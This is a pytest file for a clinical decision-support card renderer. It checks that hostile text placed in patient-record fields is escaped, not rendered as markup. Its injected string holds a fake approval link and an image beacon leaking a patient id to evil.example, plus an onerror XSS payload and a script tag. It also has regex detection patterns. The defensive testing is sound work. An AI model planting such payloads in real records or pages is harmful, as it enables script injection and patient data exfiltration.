"""Issue 25, item 1: text from the record never becomes card markup.

A Condition's text or display, a reason's, a device's, come from patient portals, HIE imports and
interface engines, not from the clinician reading the card. Every fixture is replayed with a hostile
phrase added to every `text` and `display` of the request (links, an image beacon, raw HTML, a table
pipe, control characters); every card kind must still come out, and no card may carry the markup.
"""

from __future__ import annotations

import json
import re
from functools import cache
from typing import Any

import pytest

from cds_service.render import KINDS
from tests.conftest import FIXTURES
from tests.test_card_glance import EXPECTED, answer_cards

HOSTILE = ("[Click to approve](https://evil.example/a) "
           "![](https://evil.example/b.png?patient=pt-seed) "
           "<img src=x onerror=alert(1)> <script>alert(2)</script> "
           "a | b | c \x07\x1b[31m\r\n# Heading **bold** `code`")
# what the markup would look like had it been copied as is
RAW = (re.compile(r"(?<!\\)\]\(https://evil"), re.compile(r"(?<!\\)!(?<!\\)\[\]"),
       re.compile(r"(?<!\\)<(img|script)"), re.compile(r"[\x00-\x08\x0b-\x1f\x7f]"),
       re.compile(r"^#", re.M))


def hostile(value: Any) -> Any:
    """A copy with the hostile phrase after every text and display (the words before it stay,
    so the clinical reading, which matches words, finds what it found)."""
    if isinstance(value, list):
        return [hostile(v) for v in value]
    if not isinstance(value, dict):
        return value
    return {k: (f"{v} {HOSTILE}" if k in ("text", "display") and isinstance(v, str)
                else hostile(v)) for k, v in value.items()}


@cache
def hostile_cards() -> tuple[tuple[str, str, dict[str, Any]], ...]:
    out: list[tuple[str, str, dict[str, Any]]] = []
    for case in EXPECTED["cases"]:
        if case.get("status", 200) == 200:
            body = json.loads((FIXTURES / case["file"]).read_text())
            out += answer_cards(case["name"], hostile(body))
    return tuple(out)


def test_every_card_kind_is_rendered_with_hostile_record_text() -> None:
    kinds = {kind for _, kind, _ in hostile_cards()}
    assert kinds == set(KINDS), set(KINDS) - kinds


@pytest.mark.parametrize("kind", KINDS)
def test_record_text_is_never_markup(kind: str) -> None:
    cards = [(name, card) for name, k, card in hostile_cards() if k == kind]
    assert cards
    for name, card in cards:
        texts = [card["summary"], card.get("detail", ""),
                 *(s.get("label", "") for s in card.get("suggestions", [])),
                 *(link.get("label", "") for link in card.get("links", []))]
        for text in texts:
            for pattern in RAW:
                assert not pattern.search(text), (name, pattern.pattern, text[:2000])
        assert not re.search(r"[\x00-\x1f\x7f]", card["summary"]), (name, card["summary"])
        rows = [ln for ln in card.get("detail", "").splitlines() if ln.startswith("|")]
        widths = {len(re.split(r"(?<!\\)\|", row)) for row in rows}
        assert len(widths) <= 1, (name, rows)  # a pipe in the record adds no column
